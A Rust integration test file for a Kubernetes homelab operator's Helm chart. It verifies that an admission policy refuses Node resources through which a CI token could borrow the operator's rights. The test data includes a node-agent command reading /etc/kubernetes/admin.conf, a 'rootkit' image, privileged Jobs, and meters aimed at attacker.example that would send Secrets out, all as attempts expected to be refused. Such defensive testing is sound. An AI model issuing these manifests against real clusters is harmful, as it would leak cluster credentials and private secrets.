//! The Helm chart's ValidatingAdmissionPolicy
//! (deploy/helm/kubectl-homelab/templates/admissionpolicy.yaml) on the real API server: the
//! chart's defaults and the examples apply under it, and a namespace-scoped token that writes a
//! Node CR borrowing the operator's rights is refused by `kubectl apply` with the field and the
//! rule named.

mod support;

use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use anyhow::{Context as _, ensure};
use k8s_openapi::api::rbac::v1::PolicyRule;
use kube::api::{Api, Patch, PatchParams, PostParams};
use kubectl_homelab::operator::api::{
    HttpMeter, Ipmi, IpmiMeter, Machine, Meter, MinimalPodSpec, NodeAgent, PowerOff, PowerOn,
    RedfishMeter, VolumeMountSpec,
};
use kubectl_homelab::testing::job;
use serde_json::json;
use support::ControlPlane;
use support::helm::{CHART, Helm, KUBECTL, repo};

const RELEASE: &str = "lab";
/// The chart's name for the operator's ServiceAccount of release [`RELEASE`].
const OPERATOR_SA: &str = "lab-kubectl-homelab";

/// The chart installed in `ns` with `set` values; returns once its policy is in force (the
/// API server starts enforcing a new policy within a second or so).
async fn install(helm: &Helm, cp: &ControlPlane, ns: &str, set: &[&str]) -> anyhow::Result<()> {
    let mut args = vec!["install", RELEASE, CHART, "--set", "crds.enabled=false"];
    for s in set {
        args.extend(["--set", s]);
    }
    helm.on(cp, ns, &args)?;
    let probe = node_cr(ns, "policy-probe", |m| {
        with_off(m, node_agent(Some("example.org/not-allowed:1"), &[]))
    })?;
    for _ in 0..200 {
        let out = kubectl_apply(cp.kubeconfig(), ns, &probe, &["--dry-run=server"])?;
        if !out.status.success() && text(&out).contains("ValidatingAdmissionPolicy") {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    anyhow::bail!("the chart's ValidatingAdmissionPolicy never came into force in {ns}")
}

/// `kubectl apply` of `manifest` (YAML) as the identity of `kubeconfig`, into `ns`.
fn kubectl_apply(
    kubeconfig: &Path,
    ns: &str,
    manifest: &str,
    extra: &[&str],
) -> anyhow::Result<Output> {
    use std::io::Write as _;
    let mut child = Command::new(KUBECTL)
        .arg("--kubeconfig")
        .arg(kubeconfig)
        .args(["apply", "-n", ns, "-f", "-"])
        .args(extra)
        .current_dir(repo())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .context("running kubectl apply")?;
    child
        .stdin
        .take()
        .context("kubectl's stdin")?
        .write_all(manifest.as_bytes())?;
    Ok(child.wait_with_output()?)
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A Node CR as YAML, named `name`, in the shape `Machine::test` builds, changed by `f`.
fn node_cr(ns: &str, name: &str, f: impl FnOnce(&mut Machine)) -> anyhow::Result<String> {
    let mut m = Machine::test(name).namespace(ns).build();
    f(&mut m);
    // JSON, not YAML: kubectl reads YAML 1.1, where an unquoted `on:` key is the boolean true.
    Ok(serde_json::to_string(&m)?)
}

fn with_off(m: &mut Machine, off: PowerOff) {
    let power = m.spec.power.get_or_insert_with(Box::default);
    power.power_off = Some(off);
    m.spec.shutdown_pod_spec = None;
}

fn node_agent(image: Option<&str>, command: &[&str]) -> PowerOff {
    PowerOff {
        node_agent: Some(Box::new(NodeAgent {
            image: image.map(str::to_owned),
            command: command.iter().map(|s| (*s).to_owned()).collect(),
        })),
        ..PowerOff::default()
    }
}

fn secret_volume(secret: &str) -> VolumeMountSpec {
    VolumeMountSpec {
        name: "creds".to_owned(),
        mount_path: "/creds".to_owned(),
        secret_name: Some(secret.to_owned()),
        config_map_name: None,
    }
}

fn off_job(f: impl FnOnce(&mut MinimalPodSpec)) -> PowerOff {
    let mut spec = job("example.org/power:1", &["off"]);
    f(&mut spec);
    PowerOff {
        job: Some(Box::new(spec)),
        ..PowerOff::default()
    }
}

/// What the examples need allowed: the Secrets they name, and the ServiceAccount the
/// predecessor's example names (each example's comments say so).
const EXAMPLE_VALUES: [&str; 2] = [
    "credentialSecrets={r730-bmc,home-assistant,desktop-ssh-key,legacy-power-creds,minipc-2-secureon,x10-bmc}",
    "security.jobServiceAccounts={default}",
];

/// With the chart's policy in force, the chart's own rendering applies (`helm template |
/// kubectl apply --dry-run=server`) and so does every example in examples/ (the policy
/// evaluates each of its expressions on them: a CEL error would refuse them).
#[tokio::test]
async fn the_chart_and_the_examples_apply_with_the_policy_in_force() -> anyhow::Result<()> {
    let Some(helm) = Helm::locate()? else {
        return Ok(());
    };
    let Some(cp) = support::shared().await? else {
        return Ok(());
    };
    let ns = cp.namespace("vap-defaults").await?;
    install(&helm, cp, &ns, &EXAMPLE_VALUES).await?;

    let mut template = vec!["template", RELEASE, CHART, "--namespace", &ns];
    for set in EXAMPLE_VALUES {
        template.extend(["--set", set]);
    }
    let rendered = helm.ok(&template)?;
    let out = kubectl_apply(cp.kubeconfig(), &ns, &rendered, &["--dry-run=server"])?;
    ensure!(
        out.status.success(),
        "helm template | kubectl apply --dry-run=server failed:\n{}",
        text(&out)
    );
    for entry in std::fs::read_dir(repo().join("examples"))? {
        let path = entry?.path();
        if path.extension().is_none_or(|e| e != "yaml") {
            continue;
        }
        let manifest = std::fs::read_to_string(&path)?;
        let out = kubectl_apply(cp.kubeconfig(), &ns, &manifest, &[])?;
        ensure!(
            out.status.success(),
            "{} was refused under the chart's policy:\n{}",
            path.display(),
            text(&out)
        );
    }
    Ok(())
}

/// What a namespace-scoped token (a ServiceAccount allowed to write Node CRs in the operator's
/// namespace and nothing else) can no longer do through a Node CR: each attempt is refused by `kubectl apply`
/// with the field and the chart value that would allow it; a CR within the rules is accepted.
#[tokio::test]
async fn a_namespace_token_cannot_borrow_the_operators_rights_through_a_node_cr()
-> anyhow::Result<()> {
    let Some(helm) = Helm::locate()? else {
        return Ok(());
    };
    let Some(cp) = support::shared().await? else {
        return Ok(());
    };
    let ns = cp.namespace("vap-user").await?;
    install(&helm, cp, &ns, &["credentialSecrets={bmc-m1}"]).await?;
    // A CI system's token: a ServiceAccount of the namespace, allowed to write Node CRs there.
    let ci = cp.service_account(&ns, "ci").await?;
    cp.grant(
        &ci,
        Some(&ns),
        vec![PolicyRule {
            api_groups: Some(vec!["infra.homecluster.dev".to_owned()]),
            resources: Some(vec!["nodes".to_owned()]),
            verbs: ["get", "list", "create", "update", "patch"]
                .map(str::to_owned)
                .to_vec(),
            ..PolicyRule::default()
        }],
    )
    .await?;

    let attempts: Vec<(&str, String, &str)> = vec![
        (
            "a node agent running another image",
            node_cr(&ns, "agent-image", |m| {
                with_off(m, node_agent(Some("example.org/rootkit:1"), &[]))
            })?,
            "spec.power.powerOff.nodeAgent.image: example.org/rootkit:1 is not an allowed image",
        ),
        (
            "a node agent running another image under the deprecated key \"off\"",
            node_cr(&ns, "agent-image-legacy", |m| {
                with_off(m, node_agent(Some("example.org/rootkit:1"), &[]));
                if let Some(p) = m.spec.power.as_deref_mut() {
                    p.legacy_on = p.power_on.take();
                    p.legacy_off = p.power_off.take();
                }
            })?,
            "spec.power.off.nodeAgent.image: example.org/rootkit:1 is not an allowed image",
        ),
        (
            "a power Job as the operator's ServiceAccount under the deprecated key \"on\"",
            node_cr(&ns, "job-operator-sa-legacy", |m| {
                if let Some(p) = m.spec.power.as_deref_mut() {
                    p.legacy_on = p.power_on.take();
                    if let Some(j) = p.legacy_on.as_mut().and_then(|on| on.job.as_mut()) {
                        j.service_account = Some(OPERATOR_SA.to_owned());
                    }
                }
            })?,
            "spec.power.on.job.serviceAccount: lab-kubectl-homelab may not run a power Job",
        ),
        (
            "a node agent running another command as root on the host",
            node_cr(&ns, "agent-command", |m| {
                with_off(m, node_agent(None, &["cat", "/etc/kubernetes/admin.conf"]))
            })?,
            "spec.power.powerOff.nodeAgent.command: cat /etc/kubernetes/admin.conf is not an allowed",
        ),
        (
            "a power Job as the operator's ServiceAccount",
            node_cr(&ns, "job-operator-sa", |m| {
                with_off(
                    m,
                    off_job(|j| j.service_account = Some(OPERATOR_SA.to_owned())),
                )
            })?,
            "spec.power.powerOff.job.serviceAccount: lab-kubectl-homelab may not run a power Job",
        ),
        (
            "a power Job as another ServiceAccount of the namespace",
            node_cr(&ns, "job-other-sa", |m| {
                if let Some(p) = m.spec.power.as_mut() {
                    p.power_on = None;
                }
                m.spec.startup_pod_spec = Some(Box::new(job("example.org/power:1", &["on"])));
                if let Some(s) = m.spec.startup_pod_spec.as_mut() {
                    s.service_account = Some("ci-deployer".to_owned());
                }
            })?,
            "spec.startupPodSpec.serviceAccount: ci-deployer may not run a power Job",
        ),
        (
            "a privileged power Job",
            node_cr(&ns, "job-privileged", |m| {
                with_off(m, off_job(|j| j.privileged = Some(true)))
            })?,
            "spec.power.powerOff.job: privileged and hostNetwork power Jobs are not allowed",
        ),
        (
            "a power Job on the host's network",
            node_cr(&ns, "job-host-network", |m| {
                with_off(m, off_job(|j| j.host_network = Some(true)))
            })?,
            "spec.power.powerOff.job: privileged and hostNetwork power Jobs are not allowed",
        ),
        (
            "a power Job mounting a Secret the operator may not read",
            node_cr(&ns, "job-secret", |m| {
                with_off(
                    m,
                    off_job(|j| j.volumes = vec![secret_volume("family-photos-backup-key")]),
                )
            })?,
            "spec.power.powerOff.job.volumes: a power Job may mount only the Secrets the operator may read (bmc-m1)",
        ),
        (
            "an http meter sending a Secret the operator may not read",
            node_cr(&ns, "meter-http-secret", |m| {
                m.spec.meter = Some(Box::new(Meter {
                    http: Some(Box::new(HttpMeter {
                        url: "https://attacker.example/collect".to_owned(),
                        watts_path: "$.w".to_owned(),
                        secret: Some("family-photos-backup-key".to_owned()),
                        ..HttpMeter::default()
                    })),
                    ..Meter::default()
                }));
            })?,
            "spec.meter.http.secret: family-photos-backup-key is not a Secret the operator may read",
        ),
        (
            "a Redfish meter sending a Secret the operator may not read",
            node_cr(&ns, "meter-redfish-secret", |m| {
                m.spec.meter = Some(Box::new(Meter {
                    redfish: Some(Box::new(RedfishMeter {
                        endpoint: Some("https://attacker.example".to_owned()),
                        credentials_secret: Some("family-photos-backup-key".to_owned()),
                        ..RedfishMeter::default()
                    })),
                    ..Meter::default()
                }));
            })?,
            "spec.meter.redfish.credentialsSecret: family-photos-backup-key is not a Secret the operator may read",
        ),
        (
            "an IPMI power driver sending a Secret the operator may not read",
            node_cr(&ns, "ipmi-secret", |m| {
                let bmc = Ipmi {
                    host: "attacker.example".to_owned(),
                    credentials_secret: "family-photos-backup-key".to_owned(),
                    ..Ipmi::default()
                };
                if let Some(p) = m.spec.power.as_deref_mut() {
                    p.power_on = Some(PowerOn {
                        ipmi: Some(Box::new(bmc)),
                        ..PowerOn::default()
                    });
                }
            })?,
            "spec.power.powerOn.ipmi.credentialsSecret: family-photos-backup-key is not a Secret the operator may read",
        ),
        (
            "an IPMI meter sending a Secret the operator may not read",
            node_cr(&ns, "meter-ipmi-secret", |m| {
                m.spec.meter = Some(Box::new(Meter {
                    ipmi: Some(Box::new(IpmiMeter {
                        host: Some("attacker.example".to_owned()),
                        credentials_secret: Some("family-photos-backup-key".to_owned()),
                        ..IpmiMeter::default()
                    })),
                    ..Meter::default()
                }));
            })?,
            "spec.meter.ipmi.credentialsSecret: family-photos-backup-key is not a Secret the operator may read",
        ),
    ];
    let mut failures = Vec::new();
    for (what, manifest, want) in &attempts {
        let out = kubectl_apply(ci.kubeconfig(), &ns, manifest, &[])?;
        let said = text(&out);
        if out.status.success() || !said.contains(want) {
            failures.push(format!(
                "{what}: expected a refusal saying {want:?}, kubectl said:\n{said}"
            ));
        }
    }
    ensure!(failures.is_empty(), "{}", failures.join("\n\n"));

    // The default node agent, and a power-on Job mounting the one Secret the operator may read.
    let fine = node_cr(&ns, "within-the-rules", |m| {
        with_off(m, node_agent(None, &[]));
        if let Some(on) = m.spec.power.as_mut().and_then(|p| p.power_on.as_mut()) {
            on.job = Some(Box::new(job("example.org/power:1", &["on"])));
            if let Some(j) = on.job.as_mut() {
                j.volumes = vec![secret_volume("bmc-m1")];
            }
        }
    })?;
    let out = kubectl_apply(ci.kubeconfig(), &ns, &fine, &[])?;
    ensure!(
        out.status.success(),
        "a CR within the rules was refused:\n{}",
        text(&out)
    );
    Ok(())
}

/// The operator's own writes are not judged again: a Node CR that broke a rule before the
/// policy existed can still have its desired power recorded by the operator, while any other
/// user's change to it is refused until the CR is fixed.
#[tokio::test]
async fn a_cr_from_before_the_policy_is_still_written_by_the_operator_only() -> anyhow::Result<()> {
    let Some(helm) = Helm::locate()? else {
        return Ok(());
    };
    let Some(cp) = support::shared().await? else {
        return Ok(());
    };
    let ns = cp.namespace("vap-old").await?;
    let mut old = Machine::test("old").namespace(&ns).build();
    with_off(&mut old, node_agent(Some("example.org/rootkit:1"), &[]));
    let admin = cp.client()?;
    let machines: Api<Machine> = Api::namespaced(admin.clone(), &ns);
    machines.create(&PostParams::default(), &old).await?;

    install(&helm, cp, &ns, &[]).await?;
    let operator = cp.service_account(&ns, OPERATOR_SA).await?;
    let power = |state: &str| json!({ "spec": { "powerState": state } });
    let refused = match machines
        .patch("old", &PatchParams::default(), &Patch::Merge(&power("on")))
        .await
    {
        Err(kube::Error::Api(e)) => Some(e.message),
        _ => None,
    };
    let refused = refused.context("the policy let the admin change a CR that breaks it")?;
    ensure!(
        refused.contains("spec.power.powerOff.nodeAgent.image"),
        "the refusal does not name the field: {refused}"
    );
    Api::<Machine>::namespaced(operator.client()?, &ns)
        .patch("old", &PatchParams::default(), &Patch::Merge(&power("off")))
        .await
        .context("the operator's own write was refused")?;
    Ok(())
}
